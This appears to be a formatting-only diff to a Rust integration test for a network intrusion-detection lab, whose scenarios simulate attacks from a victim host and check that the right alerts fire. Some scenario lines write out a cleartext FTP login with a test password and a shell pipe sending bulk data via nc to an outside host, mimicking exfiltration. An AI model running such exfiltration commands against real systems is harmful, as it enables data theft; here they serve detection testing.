@@ -478,7 +478,11 @@ fn attacks() -> Vec<Scenario> {
             src_ip: VICTIM,
             src_mac_of: None,
             run: |n| {
-                n.exec("vic", 10, &["curl", "-s", "--max-time", "5", "-u", "bob:hunter2", &format!("ftp://{OUTSIDE}/")]);
+                n.exec(
+                    "vic",
+                    10,
+                    &["curl", "-s", "--max-time", "5", "-u", "bob:hunter2", &format!("ftp://{OUTSIDE}/")],
+                );
             },
         },
         Scenario {
@@ -487,11 +491,7 @@ fn attacks() -> Vec<Scenario> {
             src_ip: VICTIM,
             src_mac_of: None,
             run: |n| {
-                n.exec(
-                    "vic",
-                    30,
-                    &["sh", "-c", &format!("head -c 8388608 /dev/zero | nc -N -w 5 {OUTSIDE} 9000")],
-                );
+                n.exec("vic", 30, &["sh", "-c", &format!("head -c 8388608 /dev/zero | nc -N -w 5 {OUTSIDE} 9000")]);
             },
         },
         Scenario {
@@ -546,7 +546,13 @@ fn lab_attacks_raise_the_right_alerts_and_benign_traffic_does_not() {
                 && want_mac.as_ref().is_none_or(|m| a["src_mac"].as_str() == Some(m.as_str()))
         });
         match found {
-            Some(a) => eprintln!("lab: {} -> {} from {} ({:.1} s attack)", sc.name, a["category"], a["src_ip"], ran.as_secs_f64()),
+            Some(a) => eprintln!(
+                "lab: {} -> {} from {} ({:.1} s attack)",
+                sc.name,
+                a["category"],
+                a["src_ip"],
+                ran.as_secs_f64()
+            ),
             None => {
                 let got: Vec<String> = srv
                     .alerts(&agent_id)
